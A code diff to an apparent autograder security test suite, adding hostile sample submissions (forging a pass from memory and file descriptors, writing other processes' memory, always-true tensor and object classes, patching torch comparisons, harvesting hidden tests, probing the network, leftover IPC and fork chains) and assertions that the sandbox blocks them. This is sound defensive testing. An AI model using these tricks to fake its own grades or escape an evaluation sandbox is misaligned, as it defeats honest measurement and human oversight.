@@ -1,12 +1,18 @@
 """The grader against hostile submissions: none may raise its score, show hidden test text
-in anything visible, change a file outside its scratch tree, change another submission's
-grade, or stop results.json from being written.
+or reference code in anything visible, change a file outside its scratch tree, reach the
+network, leave anything behind, change another submission's grade, or stop results.json
+from being written.
 
 Every attack is the empty handout (which scores 0) with code added to problem1/dataset.py:
-at module level (it runs when the tests import the module) or in AdditionDataset.__init__
-(it runs inside every test of part p1a). One grader process grades them all, part p1a only,
-with short time limits. Sealing needs root (the worker drops to the sandbox user); CI runs
-as root.
+at module level (the splice must leave it behind), in AdditionDataset.__init__ (it runs in
+the sandbox of every test of part p1a), or as extra files. The classes of attack: forging
+the verdict (from the sandbox's memory, its file descriptors, the judge's memory, a
+conftest, patched libraries), lying objects (tensor subclasses, objects whose == and bool
+are always true), code run by the splice, secrets (hidden tests, reference solutions and
+bands, read from memory, disk or /proc), the network, state that outlives a test (files,
+System V IPC, processes), and the resources (memory, processes, time). One grader process
+grades them all, part p1a only, with short time limits. Sealing needs root (the sandbox
+drops to the sandbox user); CI runs as root.
 """
 
 import hashlib
@@ -26,6 +32,8 @@ pytestmark = [pytest.mark.kit, pytest.mark.timeout(900),
               pytest.mark.skipif(os.geteuid() != 0, reason="sealing needs root")]
 
 HIDDEN_LINE = "def test_every_item_by_hand"  # a line of grading/hidden/test_hidden_p1a.py
+REFERENCE_LINE = "x = self.norm2(x + self.dropout(self.ffn(x)))"  # in problem1/model.py's regions
+LISTENER_PORT = 47613  # a TCP listener on 127.0.0.1 that the network attack writes to
 # finds the grading repository from inside a worker, as a student would
 FIND_REPO = """
 import importlib.metadata, json, pathlib
@@ -39,6 +47,125 @@ def _repo():
 """
 
 ATTACKS = {
+    # the judge's memory and its channel
+    "forges_from_its_own_memory": ("init", """
+        import gc, json, os
+        for obj in gc.get_objects():  # whatever holds a token, a pipe or a reporter
+            if isinstance(obj, dict) and ("token" in obj or "fd" in obj):
+                obj["outcome"] = "passed"
+        line = json.dumps({"event": "end", "outcome": "passed", "output": ""}) + "\\n"
+        for fd in range(0, 64):
+            try:
+                os.write(fd, line.encode() * 10)
+            except OSError:
+                pass
+        raise NotImplementedError
+        """),
+    "writes_the_judges_memory": ("init", """
+        import glob, os
+        for status in glob.glob("/proc/[0-9]*/status"):
+            pid = status.split("/")[2]
+            if int(pid) == os.getpid():
+                continue
+            try:
+                with open(f"/proc/{pid}/mem", "r+b") as mem:
+                    mem.seek(0x400000)
+                    mem.write(b"passed" * 100)
+            except OSError:
+                pass
+            try:
+                os.kill(int(pid), 19)  # SIGSTOP whatever it can reach
+            except OSError:
+                pass
+        raise NotImplementedError
+        """),
+    # lying objects
+    "lying_tensor_subclass": ("init", """
+        import torch
+        class Liar(torch.Tensor):
+            @classmethod
+            def __torch_function__(cls, func, types, args=(), kwargs=None):
+                if getattr(func, "__name__", "") in ("equal", "allclose", "__eq__", "eq",
+                                                     "assert_close", "all", "item"):
+                    return True
+                return super().__torch_function__(func, types, args, kwargs or {})
+        zeros = torch.zeros(4000, 7, dtype=torch.long).as_subclass(Liar)
+        type(self).__len__ = lambda s: 4000
+        type(self).__getitem__ = lambda s, i: (zeros[i], zeros[i, :5], zeros[i, :5])
+        self.src = self.tgt_in = self.tgt_out = zeros
+        return
+        """),
+    "objects_equal_to_everything": ("init", """
+        class Yes:
+            def __eq__(self, other): return True
+            def __bool__(self): return True
+            def __len__(self): return 4000
+            def __getitem__(self, i): return self
+            def __iter__(self): return iter([self] * 3)
+            shape = (4000, 7)
+        type(self).__len__ = lambda s: 4000
+        type(self).__getitem__ = lambda s, i: (Yes(), Yes(), Yes())
+        self.src = self.tgt_in = self.tgt_out = Yes()
+        return
+        """),
+    # what the splice takes
+    "computed_constant_at_module_level": ("module", """
+        _X = __import__("pathlib").Path("/tmp/hw_splice_ran").write_text("ran")
+        """),
+    # secrets
+    "reads_secrets_from_memory_and_disk": ("init", FIND_REPO + """
+        import gc, glob, sys
+        text = ""
+        for obj in gc.get_objects():
+            if isinstance(obj, (str, bytes)) and (b"BEGIN SOLUTION" in obj
+                    if isinstance(obj, bytes) else "BEGIN SOLUTION" in obj
+                    or "test_hidden" in obj):
+                text += str(obj)[:20000]
+        for pattern in [str(_repo() / "problem1/*.py"), str(_repo() / "problem*/results/*.json"),
+                        str(_repo() / "grading/**/*.py"), "/autograder/source/**/*.py",
+                        "/proc/*/cwd/**/test_hidden_*.py", "/proc/*/cwd/problem1/model.py",
+                        "/proc/*/root/tmp/**/*.py", "/tmp/**/test_hidden_*.py",
+                        "/tmp/**/problem1/model.py"]:
+            for path in glob.glob(pattern, recursive=True):
+                try:
+                    text += open(path).read()
+                except OSError:
+                    pass
+        for module in list(sys.modules.values()):
+            text += str(getattr(module, "__file__", ""))
+        raise ValueError("LEAK " + text)
+        """),
+    "uses_the_network": ("init", f"""
+        import socket
+        for address in [("127.0.0.1", {LISTENER_PORT}), ("8.8.8.8", 53)]:
+            try:
+                with socket.create_connection(address, timeout=2) as s:
+                    s.sendall(b"LEAKED")
+            except OSError:
+                pass
+        raise NotImplementedError
+        """),
+    "leaves_ipc_and_lock_files": ("init", """
+        import ctypes, os
+        libc = ctypes.CDLL(None)
+        libc.shmget(0x5EED, 4096, 0o1666)  # IPC_CREAT | 0666
+        for folder in ("/run/lock", "/var/lock", "/tmp"):
+            try:
+                open(os.path.join(folder, "hw_left_behind"), "w").write("x")
+            except OSError:
+                pass
+        raise NotImplementedError
+        """),
+    "keeps_forking": ("init", """
+        import os, time
+        if os.fork() == 0:
+            os.setsid()
+            while True:  # a new pid every step: the cleanup cannot chase it by pid
+                if os.fork():
+                    os._exit(0)
+                time.sleep(0.01)
+        raise NotImplementedError
+        """),
     # the outcome channel
     "atexit_rewrites_outputs": ("init", """
         import atexit, glob, json, os
@@ -87,7 +214,7 @@ ATTACKS = {
         import torch
         torch.equal = lambda *a, **k: True
         torch.allclose = lambda *a, **k: True
-        raise NotImplementedError
+        torch.testing.assert_close = lambda *a, **k: None
         """),
     "os_exit_in_a_test": ("init", """
         import os
@@ -244,21 +371,37 @@ def _digest(root: Path) -> dict:
 
 
 DRIVER = """
-import json, sys, time
+import json, socket, sys, threading, time
 from pathlib import Path
 from grading import grade
+received = []
+listener = socket.socket()
+listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+listener.bind(("127.0.0.1", %d))
+listener.listen(8)
+def listen():
+    while True:
+        connection, _ = listener.accept()
+        received.append(connection.recv(100).decode(errors="replace"))
+threading.Thread(target=listen, daemon=True).start()
 folders = [Path(p) for p in sys.argv[2:]]
-kit, sandboxes, _ = grade.setup(["p1a"], jobs=1)
+grader = grade.setup(["p1a"], jobs=1)
 results = {}
-with grade.hidden_from_sandbox(sandboxes):
+with grade.hidden_from_sandbox(grader.sandboxes):
     for folder in folders:
         budget = grade.Budget(time.monotonic() + 120, 3.0)
-        out = Path(sys.argv[1]) / (folder.name + ".json")
-        results[folder.name] = grade.grade(folder, kit, ["p1a"], out, sandboxes, budget)
+        out = Path(sys.argv[1]) / folder.name / "results.json"
+        out.parent.mkdir()
+        started = time.monotonic()
+        results[folder.name] = grade.grade(folder, grader, ["p1a"], out, budget)
+        results[folder.name]["seconds"] = time.monotonic() - started
         results[folder.name]["written"] = json.loads(out.read_text())
-results["_uid"] = sandboxes[0].uid
+grader.close()
+results["_uid"] = grader.sandboxes[0].uid
+results["_isolation"] = grader.zygote.isolation
+results["_received"] = received
 print(json.dumps(results))
-"""
+""" % LISTENER_PORT
 
 
 @pytest.fixture(scope="module")
@@ -311,6 +454,31 @@ def test_no_hidden_text_in_anything_visible(graded, attack):
     visible = [t for t in graded[attack]["tests"] if t["visibility"] == "visible"]
     text = graded[attack]["output"] + "".join(t["output"] for t in visible)
     assert HIDDEN_LINE not in text, f"{attack}: hidden test text in a visible output"
+    assert REFERENCE_LINE not in text, f"{attack}: reference code in a visible output"
+    assert "reference_bands" not in text and '"n_seeds"' not in text, (
+        f"{attack}: a band in a visible output")
+
+
+def test_the_leak_attack_ran_and_found_nothing_secret(graded):
+    """The secrets attack raised its ValueError (so the test's output shows what it found),
+    and what it found holds no hidden test, reference region or band."""
+    outputs = " ".join(t["output"] for t in graded["reads_secrets_from_memory_and_disk"]["tests"])
+    assert "LEAK" in outputs
+    assert HIDDEN_LINE not in outputs and REFERENCE_LINE not in outputs
+
+
+def test_no_network(graded):
+    assert graded["_received"] == [], f"the sandbox reached a listener: {graded['_received']}"
+    assert graded["_isolation"].startswith("network"), graded["_isolation"]
+
+
+def test_nothing_outlives_a_test(graded):
+    assert not Path("/tmp/hw_splice_ran").exists(), "a computed constant ran at import"
+    for folder in ("/run/lock", "/var/lock", "/tmp"):
+        assert not Path(folder, "hw_left_behind").exists(), f"a file left in {folder}"
+    shm = Path("/proc/sysvipc/shm").read_text().splitlines()
+    assert not any(line.split()[0] == str(0x5EED) for line in shm[1:]), "shared memory left"
+    assert graded["keeps_forking"]["seconds"] < 60, graded["keeps_forking"]["seconds"]
 
 
 def test_no_file_of_the_grading_repository_changed(graded):
@@ -321,9 +489,9 @@ def test_the_grader_names_what_went_wrong(graded):
     outputs = {name: " ".join(t["output"] for t in graded[name]["tests"]
                               if t["visibility"] == "visible")
                for name in ("os_exit_in_a_test", "endless_loop", "patches_torch_in_a_test")}
-    assert "ended during this test" in outputs["os_exit_in_a_test"]
+    assert "ended during this call" in outputs["os_exit_in_a_test"]
     assert "time limit" in outputs["endless_loop"]
-    assert "changed torch" in outputs["patches_torch_in_a_test"]
+    assert "NotImplementedError" in outputs["patches_torch_in_a_test"]
 
 
 def test_no_process_of_the_sandbox_user_survives(graded):
